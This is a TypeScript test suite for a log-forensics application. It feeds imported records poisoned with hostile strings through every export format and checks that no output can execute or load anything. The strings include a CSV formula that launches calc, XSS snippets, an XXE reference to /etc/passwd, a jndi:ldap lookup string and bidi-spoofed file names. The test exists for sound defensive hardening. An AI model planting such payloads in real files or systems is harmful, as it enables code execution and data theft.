/**
 * What attackers can write into logs, through the real importers to every output: records of all vendors whose free texts are
 * formulas, markup, control and bidi characters, or 10,000 letters long. Nothing of it may act in any file that we hand over.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEngine, type Engine } from '../../electron/engine';
import { verify } from '../../electron/engine/case/verify';
import { xlsx } from '../../electron/engine/ingest/testing/workbook';
import type { Client } from '../../shared/contract';
import { connect } from '../../shared/rpc/client';
import { memoryPair } from '../../shared/rpc/memory-port';
import { CHECKED, faultsOf } from '../schemas/check';
import { members, outsideStreams } from './members';

const TEXTS = [
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)><a href="javascript:alert(4)">x</a>',
  '[x](javascript:alert(5)) ![y](http://x.example/y.png) `z` | # h',
  'abc\u202egpj.exe\u202c \u2066x\u2069 \u200f',
  'a\u0000b\u0007c\u001b[31m\u009b',
  ']]>--><?x?><!DOCTYPE a SYSTEM "file:///etc/passwd">&lol;',
  '\ud800 half',
  '{report} {#findings}{title}{/findings}',
  '$' + '{jndi:ldap://x.example/a} %n%s {{7*7}}',
  '__proto__',
  'W'.repeat(10_000),
];
/** Members whose values a person or a program chooses; ids, times, codes and addresses stay, so that records stay records. */
const FREE = /name|agent|reason|message|city|state|region|country|app|login|upn|principal|email|mail|resource|client|device|descr|detail|browser|os$|host|factor|title|label|user|actor|note|text|org/i; // biome-ignore format: one line

let n = 0;
const poison = (value: unknown, key = ''): unknown => {
  if (Array.isArray(value)) return value.map((one) => poison(one, key));
  if (value !== null && typeof value === 'object')
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poison(one, name)]));
  if (typeof value !== 'string' || !FREE.test(key) || /^\d{4}-\d\d-\d\d|^[\d.]+$|^[0-9a-f-]{20,}$/i.test(value)) return value; // biome-ignore format: one line
  // Some stay: a record of which nothing is left is no record of that vendor any more.
  n += 1;
  return n % 3 === 0 ? value : TEXTS[n % TEXTS.length]!;
};

let root: string;
let engine: Engine;
let client: Client;
const outputs = new Map<string, Buffer>();

/** Text as bytes in which a half of a pair is the half that it is: Node writes a mark of replacement. */
const bytesOf = (text: string): Buffer =>
  Buffer.concat(text.split('\ud800').flatMap((part, i) => [Buffer.from(i === 0 ? [] : [0xed, 0xa0, 0x80]), Buffer.from(part)])); // biome-ignore format: one line

/** A table of records, poisoned in every free column, as CSV and as a workbook. */
async function writeTable(folder: string, name: string, text: string): Promise<void> {
  const [head, ...rows] = parse(text, { relax_column_count: true, skip_empty_lines: true, bom: true }) as string[][];
  const poisoned = [head!, ...rows.map((row) => row.map((cell, i) => poison(cell, head![i] ?? '') as string))];
  fs.writeFileSync(path.join(folder, `${name}.csv`), bytesOf(stringify(poisoned)));
  fs.writeFileSync(path.join(folder, `${name}.xlsx`), await xlsx({ [TEXTS[0]!.slice(0, 31)]: poisoned }));
}

/** Context of the organisation whose free columns are all hostile. */
function writeContext(folder: string): void {
  const table = (name: string, head: string, row: (text: string, i: number) => string[]): void =>
    fs.writeFileSync(path.join(folder, name), bytesOf(stringify([head.split(','), ...TEXTS.map(row)])));
  table('who.csv', 'identity,kind,display_name,owner,owner_email,department,title,manager,privileged,break_glass,home_country,aliases', (t, i) => [`user${i}@example.com`, 'human', t, t, t, t, t, t, 'no', 'no', 'RO', t.slice(0, 40)]); // biome-ignore format: one line
  table('things.csv', 'device,identity,name,os,managed,compliant,first_seen,last_seen', (t, i) => [`d${i}`, `user${i}@example.com`, t, t, 'yes', 'no', '', '']); // biome-ignore format: one line
  table('nets.csv', 'cidr,label,kind,note', (t, i) => [`203.0.113.${i}/32`, t, 'hosting', t]);
  table('trips.csv', 'identity,from,until,country,city,note', (t, i) => [`user${i}@example.com`, '2026-01-01T00:00:00Z', '2026-02-01T00:00:00Z', 'RO', t, t]); // biome-ignore format: one line
}

/** Samples of every source, two of JSON or NDJSON and one table, poisoned. */
async function writeEvidence(folder: string): Promise<void> {
  writeContext(folder);
  const sources = path.join(__dirname, '../../electron/engine/ingest/sources');
  for (const source of fs.readdirSync(sources)) {
    const samples = path.join(sources, source, 'samples');
    if (!fs.existsSync(samples)) continue;
    const files = fs.readdirSync(samples).filter((name) => /\.(nd)?json$/.test(name) && !name.includes('.expected.'));
    for (const name of files.slice(0, 2)) {
      const text = fs.readFileSync(path.join(samples, name), 'utf8');
      try {
        const out = name.endsWith('.ndjson')
          ? text.split('\n').filter((line) => line.trim() !== '').map((line) => JSON.stringify(poison(JSON.parse(line)))).join('\n') // biome-ignore format: one line
          : JSON.stringify(poison(JSON.parse(text)));
        fs.writeFileSync(path.join(folder, `${source}-=1+1 ${name}`), out);
      } catch {
        // a sample that is broken on purpose
      }
    }
    const [sample] = fs.readdirSync(samples).filter((name) => name.endsWith('.csv'));
    if (sample) await writeTable(folder, `\u202e${source}@SUM(1)`, fs.readFileSync(path.join(samples, sample), 'utf8'));
  }
}

beforeAll(async () => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'sidedoor-hostile-'));
  const evidence = path.join(root, '<b>evidence');
  fs.mkdirSync(evidence);
  await writeEvidence(evidence);
  engine = createEngine({ checkOutputs: true });
  const [page, host] = memoryPair();
  engine.serve(host);
  client = connect(page).client;
  const grant = (token: string, file: string, use: 'read' | 'write'): void => engine.control({ control: 'grant', token, path: file, use }); // biome-ignore format: one line
  grant('case', path.join(root, '=1+1 <b>\u202ehostile.sidedoor'), 'write');
  grant('evidence', evidence, 'read');
  await client['cases.open']({ ref: 'case' });
  await client['cases.actor']({ name: TEXTS[7]!, confirmed: true });
  const summary = await client['imports.start']({ files: ['evidence'] });
  expect(summary.events).toBeGreaterThan(100);
  for (const end of ['.csv', '.xlsx', '.ndjson', '.json'])
    expect([end, summary.files.filter(({ file, records }) => file.includes(end) && records > 0).length > 8]).toEqual([end, true]); // biome-ignore format: one line
  expect(summary.files.filter(({ context }) => context > 10)).toHaveLength(4);
  for (const file of summary.files) expect(file.records).toBe(file.events + file.context + file.duplicates + file.skipped + file.rejected); // biome-ignore format: one line
  const episodes = await client['episodes.list']({ offset: 0, limit: 100 });
  expect(episodes.length).toBeGreaterThan(10);
  for (const [i, text] of TEXTS.entries()) await client['annotations.add']({ on: episodes[i % episodes.length]!.id, text, tags: [text.slice(0, 60)] }); // biome-ignore format: one line
  await client['episodes.decide']({ id: episodes[0]!.id, verdict: 'likely_compromise', action: 'block', why: TEXTS[0]! }); // biome-ignore format: one line
  await client['notebook.save']({ text: TEXTS.join('\n\n') });
  for (const { id, kind, extension } of await client['exports.formats']({})) {
    const token = `${kind}-${id}`;
    const file = path.join(root, `${token}.${extension}`);
    grant(token, file, 'write');
    await client['exports.write']({ format: id, kind, sink: token, query: '' });
    outputs.set(token, fs.readFileSync(file));
  }
}, 120_000);

afterAll(async () => {
  await engine?.close();
  fs.rmSync(root, { recursive: true, force: true });
});

const said = (token: string): string => outputs.get(token)!.toString('utf8');
const BIDI = /[\u202a-\u202e\u2066-\u2069]/;
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/;

/** The first few places: a whole report says nothing to whoever reads a failed test. */
const foundIn = (text: string, what: RegExp): string[] =>
  [...text.matchAll(new RegExp(what, what.flags.includes('g') ? what.flags : `${what.flags}g`))]
    .slice(0, 5)
    .map(({ 0: one, index }) => `${JSON.stringify(text.slice(Math.max(0, index - 80), index))} then ${one}`);

describe('a hostile case, imported', () => {
  it.each(CHECKED)('%s is valid by its schema', async (format) => {
    expect(await faultsOf(format, said(`export-${format}`))).toEqual([]);
  });

  it.each(['export-csv', 'export-timesketch'])('%s: no cell begins a formula', (token) => {
    const text = said(token);
    if (text.startsWith('{')) return expect(() => text.trimEnd().split('\n').map((line) => JSON.parse(line))).not.toThrow(); // biome-ignore format: one line
    // Fields as RFC 4180 has them.
    const cells = [...text.replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, a, b]) => a ?? b ?? ''); // biome-ignore format: one line
    expect(cells.length).toBeGreaterThan(1_000);
    expect(
      cells.filter((cell) => /^[\s\u00a0]*[=+\-@＝＋－＠\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
    ).toEqual([]);
  });

  it('lines of JSON hold the texts exactly: they are read by programs', () => {
    const names = new Set(said('export-jsonl').trimEnd().split('\n').flatMap((line) => [...line.matchAll(/"(?:[^"\\]|\\.)*"/g)].map(([text]) => JSON.parse(text) as string))); // biome-ignore format: one line
    expect(
      TEXTS.filter((text) => [...names].some((name) => name.includes(text.trim().slice(0, 20)))).length,
    ).toBeGreaterThan(8);
  });

  it('html: nothing but our own elements, none that runs or loads', () => {
    const text = said('report-html');
    const elements = new Set([...text.matchAll(/<([a-zA-Z!][\w-]*)/g)].map(([, name]) => name!.toLowerCase()));
    for (const bad of ['script', 'iframe', 'object', 'embed', 'form', 'base', 'link']) expect([...elements]).not.toContain(bad); // biome-ignore format: one line
    expect(foundIn(text, /<[^>]*\son\w+\s*=/)).toEqual([]);
    for (const [, target] of text.matchAll(/<[^>]*\s(?:href|src|xlink:href)="([^"]*)"/g)) expect(target).toMatch(/^(#|data:image\/)/); // biome-ignore format: one line
    expect(text.includes("default-src 'none'")).toBe(true);
    expect([...foundIn(text, BIDI), ...foundIn(text, CONTROL)]).toEqual([]);
  });

  it('md: no element but our anchors, no picture, no link that leaves the file', () => {
    const outside = said('report-md')
      .replace(/^(`{3,}|~{3,})[\s\S]*?^\1$/gm, '')
      .replace(/(?<!\\)(`+)[^`][\s\S]*?(?<!`)\1(?!`)/g, '')
      .replace(/<a id="[\w-]+"><\/a>/g, '');
    expect(foundIn(outside, /(?<!\\)<[a-z!/].{0,40}|(?<!\\)!\[.{0,40}/gi)).toEqual([]);
    for (const [, target] of outside.matchAll(/(?<!\\)\]\(([^)]*)\)/g)) expect(target).toMatch(/^#/);
    expect(foundIn(said('report-md'), BIDI)).toEqual([]);
  });

  it.each(['report-docx', 'report-xlsx'])('%s: text is text, nothing is loaded, no formula', async (token) => {
    for (const [name, xml] of members(outputs.get(token)!)) {
      if (!/\.(xml|rels)$/.test(name)) continue;
      expect([name, CONTROL.test(xml), BIDI.test(xml)]).toEqual([name, false, false]);
      expect(xml).not.toMatch(/TargetMode\s*=\s*["']External|<f[ >]|t="str"|<!DOCTYPE/);
      expect(xml).not.toMatch(/<(script|img|svg)\b/);
      for (const [, code] of xml.matchAll(/<w:instrText[^>]*>([^<]*)</g)) expect(code).toMatch(/^ (PAGE|NUMPAGES|PAGEREF s_\w+ \\h) $/); // biome-ignore format: one line
    }
  });

  it('pdf: no action, no address, no script', () => {
    expect(foundIn(outsideStreams(outputs.get('report-pdf')!), /\/(JavaScript|JS|Launch|URI|EmbeddedFile|SubmitForm)\b/)).toEqual([]); // biome-ignore format: one line
  });

  it('kml: nothing that a viewer draws as HTML, no hidden characters', () => {
    const text = said('export-kml');
    expect([...foundIn(text, BIDI), ...foundIn(text, CONTROL), ...foundIn(text, /<!\[CDATA\[|<!DOCTYPE/)]).toEqual([]);
    expect(foundIn(text, /&(amp;)*lt;/i)).toEqual([]);
  });

  it('names of members in the bundle lie inside it and can be written on every system', () => {
    const names = [...members(outputs.get('export-bundle')!).keys()];
    expect(names.length).toBeGreaterThan(30);
    expect(names.filter((name) => name.startsWith('/') || name.split('/').includes('..') || /[\u0000-\u001f\\:*?"<>|]/.test(name) || BIDI.test(name))).toEqual([]); // biome-ignore format: one line
  });

  it('bundle: intact', async () => {
    expect(await verify(path.join(root, 'export-bundle.zip'), { signer: null, signal: new AbortController().signal, progress: () => {} })).toMatchObject({ ok: true, problems: [] }); // biome-ignore format: one line
  });

  it('every output was looked at', () => {
    const looked = ['export-bundle', 'export-csv', 'export-jsonl', 'export-timesketch', 'report-docx', 'report-html', 'report-md', 'report-pdf', 'report-xlsx', ...CHECKED.map((format) => `export-${format}`)]; // biome-ignore format: one line
    expect([...outputs.keys()].sort()).toEqual(looked.sort());
  });
});
